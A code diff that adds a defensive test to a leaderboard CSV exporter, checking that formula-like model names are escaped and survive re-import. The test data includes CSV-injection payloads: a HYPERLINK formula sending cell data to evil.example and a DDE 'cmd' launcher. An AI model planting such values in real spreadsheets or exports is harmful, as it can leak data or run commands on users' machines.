@@ -3,6 +3,7 @@ import path from 'node:path';
 import { graphql } from 'graphql';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { REPO_ROOT, type PrismaClient } from '@benchhub/db';
+import { parseCsv } from '@benchhub/core/leaderboard';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { handleLeaderboardExport, handleLeaderboardExportNode } from '../../http/leaderboard-export';
@@ -206,6 +207,24 @@ describe('export', () => {
     expect(report).toMatchObject({ rows: 4530, inserted: 4530, skipped: 0 });
     expect(await snapshot()).toEqual(before);
   }, 60_000);
+
+  it('escapes formula-looking cells in the HTTP and file CSV exports, and re-imports them unchanged', async () => {
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A2)', "'=already"];
+    for (const [i, name] of hostile.entries()) await liveRun(name, [['Science/Math', 'Reasoning', 1, 2]], 'English', `task-${i}`);
+    const before = await snapshot();
+    const response = await handleLeaderboardExport(new Request('http://localhost/export/leaderboard.csv?orderBy=MODEL_ASC'), { db });
+    const text = await response!.text();
+    expect(text).toBe(leaderboardCsv(await exportLeaderboardRows(db, {}, 'MODEL_ASC')));
+    const models = parseCsv(text).slice(1).map((row) => row[0]!);
+    expect(models.sort()).toEqual(hostile.map((name) => `'${name}`).sort());
+    for (const line of parseCsv(text)) for (const cell of line) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+
+    const file = path.join(temp.dir, 'hostile.csv');
+    writeFileSync(file, text);
+    await db.leaderboardEntry.deleteMany();
+    expect(await importLeaderboard(db, file)).toMatchObject({ rows: hostile.length, inserted: hostile.length });
+    expect(await snapshot()).toEqual(before);
+  });
 
   it('serves filtered views over HTTP as CSV and JSON, and ignores other paths', async () => {
     await importLeaderboard(db, SEED);
